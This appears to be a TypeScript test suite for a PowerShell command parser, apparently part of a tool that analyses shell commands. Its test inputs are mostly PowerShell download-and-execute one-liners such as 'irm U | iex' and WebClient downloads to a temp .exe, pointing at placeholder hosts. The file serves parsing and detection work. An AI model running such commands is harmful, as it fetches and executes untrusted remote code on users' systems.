import assert from "node:assert/strict";
import fc from "fast-check";
import { parseBash } from "../../server/core/shell/bash.ts";
import { parseNested } from "../../server/core/shell/nested-program.ts";
import { parsePowerShell, parsePowerShellCode, parsePowerShellWord } from "../../server/core/shell/powershell.ts";
import { checkSpans, HOLE, holesIn, itReads, render, wordsOf } from "./command-tree.ts";

/** Scripts and the trees that they are read as. */
const WRITTEN: readonly (readonly [script: string, tree: string])[] = [
  // Pipes, values, members
  ["iwr -useb https://x.io/i.ps1 | iex # comment", "<iwr -useb https://x.io/i.ps1 | iex>"],
  ["irm U |\n  iex", "<irm U | iex>"],
  ["irm U `\n  -OutFile x\n  | iex", "<irm U -OutFile x | iex>"],
  ["'irm U' | iex", '<‹Write-Output› "irm U" | iex>'],
  ["(irm U) | iex", "<{irm U} | iex>"],
  ["iex (irm U)", "iex $(irm U)"],
  ["iex (iwr U).Content", "iex $(<{iwr U} | .Content>)"],
  ["iex ((New-Object Net.WebClient).DownloadString('U'))", 'iex $(<{New-Object Net.WebClient} | .DownloadString "U">)'],
  [
    '$wc = New-Object Net.WebClient; $wc.DownloadFile($u, "$env:TEMP\\f.exe")',
    'wc=$(New-Object Net.WebClient); <‹Write-Output› $wc | .DownloadFile $u $env:temp"\\\\f.exe">',
  ],
  ["& ([scriptblock]::Create((irm U))) -Arg 1", "$([scriptblock]::Create $(irm U)) -Arg 1"],
  ['. ([scriptblock]::Create("$(irm U)"))', ". $([scriptblock]::Create $(irm U))"],
  ["[scriptblock]::Create((irm U)).Invoke()", "<[scriptblock]::Create $(irm U) | .Invoke>"],
  ['iex "& { $(irm U) } -Quiet"', 'iex "& { "$(irm U)" } -Quiet"'],
  [
    "$r = iwr U; iex $r.Content; iex $r.Content.Trim()",
    'r=$(iwr U); iex $r{."Content"}; iex $(<‹Write-Output› $r{."Content"} | .Trim>)',
  ],
  ["(irm U) -replace 'a', 'b' -join \"`n\" | iex", '<{irm U} | -replace "a" "b" | -join "\\n" | iex>'],
  ["(iwr U).Headers['x'][0].Foo($y)", "<{iwr U} | .Headers | ['x'] | [0] | .Foo $y>"],
  ['[IO.File]::WriteAllText("$pwd/x.ps1", (irm U))', '[IO.File]::WriteAllText $pwd"/x.ps1" $(irm U)'],
  ["(1,2,3).ForEach{ irm $_ }", "<‹Write-Output› 1 2 3 | .ForEach ?[irm $_]>"],
  // Strings and variables
  [
    'echo \'it\'\'s\' "a ${b} $c.d $($e.f) `$x `"q`" ""w"" $env:X" `n',
    'echo "it\'s" "a "$b" "$c".d "$e{."f"}" $x \\"q\\" \\"w\\" "$env:x \n',
  ],
  ["echo “a” ‘b’ a\"b\"'c' '' @'\nirm U\n'@ | iex", '<echo "a" "b" a"bc" "" "irm U" | iex>'],
  ['@"\nirm "$url" $(foo)\n"@ | iex', '<‹Write-Output› "irm \\""$url"\\" "$(foo) | iex>'],
  ['"text $(\n  irm U | iex\n)"', '‹Write-Output› "text "$(<irm U | iex>)'],
  ["'https://x/{0}/{1}.ps1' -f $v, 'z' | iex", '<‹Write-Output› "https://x/"$v"/""z"".ps1" | iex>'],
  ["$url = 'https://x/' + $v + '/i.ps1'", 'url="https://x/"$v"/i.ps1"'],
  [
    '"$($env:TEMP)\\x" ; ${env:ProgramFiles(x86)} ; $script:X ; $PSItem ; $$ ; "$(Azure.Var)"',
    '‹Write-Output› $env:temp"\\\\x"; ‹Write-Output› $env:programfiles(x86); ‹Write-Output› $x; ‹Write-Output› $_; ‹Write-Output› $$; ‹Write-Output› $(Azure.Var)',
  ],
  // Assignments
  [
    "$a, $b = 1, 2; $c = $d = irm U; [string[]]$e = @('x', 'y'); $f += 'z'",
    'a=1 b=2; d=$(irm U) c=$d; e=("x" "y"); f+="z"',
  ],
  [
    "$p = @{ Uri = 'https://x'; 'OutFile' = \"a$b\" }; iwr @p; $p.Uri = 'y'; $p['Uri'] = irm U",
    'p=?[] p.uri="https://x" p.outfile="a"$b; iwr $p{@}; p.uri="y"; p.uri=$(irm U)',
  ],
  [
    '$env:Path += ";C:\\x"; [Net.ServicePointManager]::SecurityProtocol = 3072',
    'env:path+=";C:\\\\x"; [net.servicepointmanager]::securityprotocol=3072',
  ],
  ["$x = if ($a) { 'b' } else { irm U | iex }", 'x=$(if [test(-n $a)]{‹Write-Output› "b"} else {<irm U | iex>})'],
  [
    "$y = $a ? (irm U) : 'x'; $z = $a ?? $b",
    'y=$(if [test(-n $a)]{{irm U}} else {‹Write-Output› "x"}); z=$(if [test]{‹Write-Output› $a} else {‹Write-Output› $b})',
  ],
  // Statements
  [
    "if ((Get-FileHash \"$env:TEMP/x\").Hash -ne 'ab') { Write-Host 'no'; exit 1 }",
    'if [test($(<{Get-FileHash $env:temp"/x"} | .Hash>) -ne "ab")]{Write-Host "no"; exit 1}',
  ],
  [
    "if (-not (Test-Path f)) { a } elseif ($x -and !$y -or $z -ceq 1) { b } else { c }",
    "if [test!(-n $(Test-Path f))]{a} [test(((-n $x) && !(-n $y)) || ($z -eq 1))]{b} else {c}",
  ],
  [
    "$ok = (Get-FileHash f).Hash -eq 'H'\nif (!$?) { exit $LASTEXITCODE }",
    'ok=$(test($(<{Get-FileHash f} | .Hash>) -eq "H")); if [test!(-n $?)]{exit $lastexitcode}',
  ],
  ["foreach ($u in 'a', \"b$c\") { irm $u | iex }", 'loop u in "a" "b"$c {<irm $u | iex>}'],
  ["for ($i = 0; $i -lt 3; $i++) { foo $i }", "loop ∅ while [i=0; test($i -lt 3)] {foo $i; ‹Write-Output› $i}"],
  [
    "do { foo } until ($x -eq 3); while (Test-Path f) { break }",
    "loop ∅ until [test($x -eq 3)] {foo}; loop ∅ while [Test-Path f] {break}",
  ],
  [
    "'a' | ForEach-Object { iwr \"https://x/$_\" } ; gci | % FullName | ?{ $_.Name -match 'x' }",
    '<‹Write-Output› "a" | loop _ {iwr "https://x/"$_}>; <gci | % FullName | ? ?[test($_{."Name"} -match "x")]>',
  ],
  [
    "switch -regex ($env:OS) { 'a' { foo } { $_ -gt 1 } { bar } default { baz } }",
    'case $env:os "a"{foo} ?[test($_ -gt 1)]{bar} default{baz}',
  ],
  ["try { irm U | iex } catch { Write-Host $_ }", "({<irm U | iex>} || {Write-Host $_})"],
  [
    "try { a } catch [Net.WebException], [X] { b } catch { c } finally { d }",
    "{({a} || case ∅ [Net.WebException]|[X]{b} {c}); {d}}",
  ],
  ["trap { b; continue }", "case ∅ {b; continue}"],
  [
    "function Get-It([string]$url, $out = 'x') { irm $url | iex }\nGet-It 'https://a'",
    'function get-it {‹param› $url $out{="x"}; <irm $url | iex>}; Get-It "https://a"',
  ],
  [
    '[CmdletBinding()] param([Parameter(Mandatory)][string]$Url = "https://d", [switch]$Force)\nirm $Url',
    'param $url{="https://d"} $force; irm $url',
  ],
  [
    "function global:Foo { param($x) begin { a } process { return irm $x | iex } }",
    "function foo {param $x; {a}; {return $(<irm $x | iex>)}}",
  ],
  [
    "class Foo : Bar { [void] Do() { irm U | iex } }",
    "function class:foo {‹Write-Output› [void] Do ∅ ?[<irm U | iex>]}",
  ],
  ["a && b || exit 1; Start-Job { irm U | iex } &", "(a && b || exit 1); Start-Job ?[<irm U | iex>] &"],
  // Commands
  [
    "& \"$env:TEMP\\f.exe\" /S; . .\\x.ps1; & $sb; & { param($u) irm $u | iex } 'https://x'",
    '$env:temp"\\\\f.exe" /S; . .\\x.ps1; $sb; {u="https://x"; param $u; <irm $u | iex>}',
  ],
  ['cmd /c --% curl "%TEMP%\\a b" -o y & z | foo', '<cmd /c --% "curl" $env:temp"\\\\a b" "-o" "y" "&" "z" | foo>'],
  [
    'echo foo > a.txt 2>&1; "x=$y" >> $env:GITHUB_ENV; foo *> all.log; foo 2>$null',
    'echo foo >a.txt 2>&1; ‹Write-Output› "x="$y >>$env:github_env; foo &>all.log; foo 2>$null',
  ],
  [
    'foo -Uri:"https://x" -Sw:$false -X:(irm U) a,b , c $env:X\\y -o"$z" @args @{ k = irm V }',
    'foo -Uri:"https://x" -Sw:$false -X:$(irm U) a,b,c $env:x\\y -o$z $args{@} ?[irm V]',
  ],
  [
    "7z x $zip -y; 1..3 | % { foo $_ }; 5 * 3; $i++",
    "7z x $zip -y; <‹Write-Output› ?[] | loop _ {foo $_}>; ‹Write-Output› ?[]; ‹Write-Output› $i",
  ],
  ["#requires -Version 5\n<# irm U | iex #> foo a#b # irm U | iex", "foo a#b"],
  [":outer foreach ($x in $y) { continue outer }", "loop x in $y {continue outer}"],
];

/** Scripts that somebody is still typing, or got wrong. */
const HALF_TYPED: readonly (readonly [script: string, tree: string])[] = [
  ["irm U |", "<irm U>"],
  ["irm U | iex &&", "<irm U | iex>"],
  ["iex (irm U\n./x.ps1", "iex $(irm U); ./x.ps1"],
  [
    "iex ((New-Object Net.WebClient).DownloadString(\nirm U | iex",
    "iex $(<{New-Object Net.WebClient} | .DownloadString>); <irm U | iex>",
  ],
  ['iex "$(irm U\nWrite-Host "x"\nirm V | iex', 'iex "$(irm U"; Write-Host "x"; <irm V | iex>'],
  ['echo "abc\nirm U | iex\necho "x"', 'echo "abc"; <irm U | iex>; echo "x"'],
  ["Write-Host it's\nirm U | iex\nWrite-Host 'x'", 'Write-Host it"s"; <irm U | iex>; Write-Host "x"'],
  ["if ($x) { irm U | iex", "if [test(-n $x)]{<irm U | iex>}"],
  ["if ($x { irm U | iex }\nfoo", "if [‹Write-Output› $x ?[<irm U | iex>]]{}; foo"],
  ["if (\nirm U | iex", "if [test(-n ∅)]{}; <irm U | iex>"],
  ["foo ( bar }\nirm U | iex", "foo $(bar); <irm U | iex>"],
  ["}) irm U | iex", "<irm U | iex>"],
  ["$x =\nirm U | iex", "x=$(<irm U | iex>)"],
  ["$x[\nirm U | iex", "<‹Write-Output› $x | [>; <irm U | iex>"],
  ["@{ a = irm U", "‹Write-Output› ?[irm U]"],
  ["@'\nirm U | iex", '‹Write-Output› ""; <irm U | iex>'],
  ["[Net.ServicePointManager\nirm U | iex", "[Net.ServicePointManager; <irm U | iex>"],
  ["&", ""],
  ["foreach ($x in\nirm U | iex", "loop x in  {}; <irm U | iex>"],
  ["function Foo {\n  irm U | iex", "function foo {<irm U | iex>}"],
  ["irm U -OutFile\n./x", "irm U -OutFile; ./x"],
  ["<# foo\nirm U | iex", "<irm U | iex>"],
  ["try { irm U | iex } ca", "{<irm U | iex>}; ca"],
  ["irm U | iex`", "<irm U | iex>"],
];

describe("the reader of PowerShell", () => {
  itReads(parsePowerShell, "reads", WRITTEN);
  itReads(parsePowerShell, "reads what is there of", HALF_TYPED);

  it("does not care about letters' case in keywords, operators and variables", () => {
    const block = parsePowerShell("IF ($ENV:Path -CEQ $X) { IEX $Y } ELSE { Throw 'z' }");
    assert.equal(render(block), 'if [test($env:path -eq $x)]{IEX $y} else {Throw "z"}');
  });

  it("reads lines that end in CRLF", () => {
    const script = "irm U |\r\n iex\r\n@'\r\na\r\nb\r\n'@ | iex # x\r\nfoo `\r\n -Bar\r\n";
    assert.equal(render(parsePowerShell(script)), '<irm U | iex>; <‹Write-Output› "a\\r\\nb" | iex>; foo -Bar');
  });

  it("keeps expressions as holes, in words, strings and as commands", () => {
    const script = `iwr ${HOLE} -OutFile "a-${HOLE}.ps1"; & ${HOLE} 'x${HOLE}' ; $x = ${HOLE}; ${HOLE} | iex`;
    const block = parsePowerShell(script, holesIn(script));
    const hole = "⟦${{ x }}⟧";
    const tree = `iwr ${hole} -OutFile "a-"${hole}".ps1"; ${hole} "x"${hole}; x=$(${hole}); <${hole} | iex>`;
    assert.equal(render(block), tree);
    checkSpans(block, script);
  });

  it("tells for each word where it is written", () => {
    const script =
      "irm -Uri 'a b' -X:$y \"c$(d -e \"f\")g\" | iex; $z = @('h', i) # j\nif ($k.l -ne (m 'n')) { exit 1 }";
    const words = wordsOf(parsePowerShell(script)).map(({ span }) => script.slice(span.start, span.end));
    const values = ["'h'", "i", "exit", "1"];
    assert.deepEqual(words, ["irm", "-Uri", "'a b'", "-X:$y", '"c$(d -e "f")g"', "d", "-e", '"f"', "iex", ...values]);
  });

  it("covers the value with the span of what is taken out of it", () => {
    const script = "x; (New-Object Net.WebClient).DownloadString('U') | iex";
    const pipe = parsePowerShell(script).statements[1]?.node;
    assert.ok(pipe?.kind === "pipe");
    const spans = pipe.stages.map(({ span }) => script.slice(span.start, span.end));
    assert.deepEqual(spans, ["(New-Object Net.WebClient)", "(New-Object Net.WebClient).DownloadString('U')", "iex"]);
  });

  it("reads the program in a word, with its variables and substitutions where the program has them", () => {
    const script = "iex \"& { $(irm U) } -Quiet; . $x; '$y'\"";
    const word = wordsOf(parsePowerShell(script))[1];
    assert.ok(word);
    const block = parsePowerShellWord(script, word);
    assert.ok(block);
    assert.equal(render(block), "{$(irm U)}; . $x; ‹Write-Output› $y");
    checkSpans(block, script);
  });

  it("reads the program in another shell's word, to the character where nothing is escaped", () => {
    const script = "pwsh -NoProfile -Command \"irm 'U' | iex\" && pwsh -c 'irm V|iex'";
    const words = wordsOf(parseBash(script));
    const spans = [words[3], words[6]].flatMap((word) => {
      const block = word && parseNested(script, [word], "powershell");
      return block ? wordsOf(block).map(({ span }) => script.slice(span.start, span.end)) : [];
    });
    assert.deepEqual(spans, ["irm", "'U'", "iex", "irm", "V", "iex"]);
  });

  it("reads several words of another shell as one program", () => {
    const script = "powershell irm $U \\| iex";
    const block = parseNested(script, wordsOf(parseBash(script)).slice(1), "powershell");
    assert.ok(block);
    assert.equal(render(block), "<irm $U | iex>");
    checkSpans(block, script);
  });

  it("reads decoded code at the place of what it was decoded from", () => {
    const span = { start: 3, end: 9 };
    const block = parsePowerShellCode("irm U | iex", span);
    assert.equal(render(block), "<irm U | iex>");
    assert.ok(wordsOf(block).every((word) => word.span.start === 3 && word.span.end === 9));
  });

  it("takes neither offence at any 20,000 texts nor puts a span outside of another", () => {
    let spans = 0;
    const tokens = [
      "irm",
      "iex",
      " ",
      " ",
      "\n",
      "|",
      "||",
      "&&",
      "&",
      ";",
      "(",
      ")",
      "{",
      "}",
      "[",
      "]",
      "$x",
      "$(",
      "@(",
      "@{",
      "@'\n",
      "\n'@",
      '@"\n',
      '\n"@',
      "'",
      '"',
      "`",
      "`\n",
      "#",
      "<#",
      "#>",
      "-eq",
      "-f",
      "-and",
      "-not",
      "!",
      "=",
      "+=",
      "+",
      "-",
      "..",
      ".",
      "::",
      ",",
      "if",
      "else",
      "elseif",
      "foreach",
      "in",
      "while",
      "do",
      "until",
      "switch",
      "try",
      "catch",
      "finally",
      "function",
      "param",
      "return",
      "exit",
      "throw",
      "--%",
      "%",
      "?",
      "??",
      "[int]",
      ".Foo",
      "::Bar(",
      "https://x/y",
      "1",
      "2>",
      ">",
      ">>",
      ">&1",
      "${",
      "$env:Y",
      "@s",
      "-Name:",
      "\r\n",
      HOLE,
      "“",
      "é",
      "😀",
      "$_",
      "{0}",
      "class",
      "trap",
      ":l ",
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...tokens), { maxLength: 40, size: "max" }), (pieces) => {
        const text = pieces.join("");
        spans += checkSpans(parsePowerShell(text, holesIn(text)), text);
      }),
      { seed: 20260802, numRuns: 20_000 },
    );
    assert.ok(spans > 200_000, `only ${spans} spans`);
  });

  const hostile: readonly (readonly [string, string])[] = [
    ["substitutions in substitutions", `${"$(".repeat(1000)}x${")".repeat(1000)}`],
    ["strings in strings", `${'"$('.repeat(1000)}x${')"'.repeat(1000)}`],
    ["open round brackets", "(".repeat(10_000)],
    ["open curly brackets", "{".repeat(10_000)],
    ["open conditions", "if (".repeat(3000)],
    ["single quotes", "'".repeat(10_001)],
    ["double quotes", '"'.repeat(10_001)],
    ["lines with an apostrophe", "it's\n".repeat(2001)],
    ["a long line", `foo ${"arg ".repeat(2500)}`],
    ["members", `$x${".a()".repeat(3000)}`],
    ["open indexes", `$a${"[$a".repeat(3000)}`],
    ["assignments", `${"$a=".repeat(3000)}1`],
    ["sums", `'a'${"+'b'".repeat(3000)}`],
    ["products", `(a)${"*(a)".repeat(2500)}`],
    ["choices", `$a${"??$b?$c:$d".repeat(1000)}`],
    ["negations", `${"!".repeat(10_000)}$x`],
    ["pipes", `a${"|a".repeat(5000)}`],
    ["here-strings", '@"\n$('.repeat(2000)],
    ["10,000 lines", 'irm https://x -OutFile "$env:TEMP\\f.ps1" | iex # c\n'.repeat(10_000)],
  ];
  for (const [name, text] of hostile) {
    it(`reads ${name} in one go`, () => {
      checkSpans(parsePowerShell(text), text);
    });
  }
});
